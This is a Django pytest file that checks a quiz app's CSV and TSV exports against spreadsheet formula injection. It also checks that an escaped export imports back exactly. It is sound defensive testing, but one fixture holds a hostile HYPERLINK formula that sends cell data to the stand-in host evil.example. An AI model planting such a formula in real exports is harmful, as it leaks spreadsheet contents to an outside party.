"""Every CSV and TSV the app writes opens in a spreadsheet without running a formula.

A cell beginning with = + - or @ is written with a leading apostrophe (text to a
spreadsheet); importing the file back takes it off, so the round trip is exact.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from quizapp.bank.models import Item
from quizapp.exchange.list_import import import_term_list
from quizapp.study.decks import EVERYTHING
from quizapp.study.models import Card
from quizapp.study.queue import add_new_cards

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.fixture
def poisoned(bank, student):
    item = Item.objects.filter(kind="definition", status="approved").first()
    item.teacher_prompt, item.teacher_answer = FORMULA, "@SUM(1+1)"
    item.save()
    Card.objects.all().delete()
    add_new_cards(student, EVERYTHING, timezone.now())
    return item


@pytest.mark.parametrize(("delimiter", "separator"), [("tab", "\t"), ("comma", ",")])
def test_exported_term_lists_mark_formulas_as_text(poisoned, student, delimiter, separator):
    client = Client()
    client.force_login(student)
    url = reverse("exchange:export", args=["csv"])
    text = client.get(url, {"deck": "all", "delimiter": delimiter}).content.decode()
    cells = [cell for row in _rows(text, separator) for cell in row]
    assert f"'{FORMULA}" in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_a_marked_export_imports_back_exactly(poisoned, student, teacher):
    client = Client()
    client.force_login(student)
    url = reverse("exchange:export", args=["csv"])
    text = client.get(url, {"deck": "all", "delimiter": "comma"}).content.decode()
    import_term_list(text, title="Round trip", user=teacher, header=True)
    assert Item.objects.filter(prompt=FORMULA, answer="@SUM(1+1)").exists()


def test_the_results_csv_marks_a_username_that_looks_like_a_formula(world):
    student = world["users"]["student"]
    get_user_model().objects.filter(pk=student.pk).update(username="-2+3")
    client = Client()
    client.force_login(world["users"]["teacher"])
    url = reverse("quizzes:results_csv", args=[world["args"]["done_quiz"]])
    rows = _rows(client.get(url).content.decode(), ",")
    assert rows[1][0] == "'-2+3"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
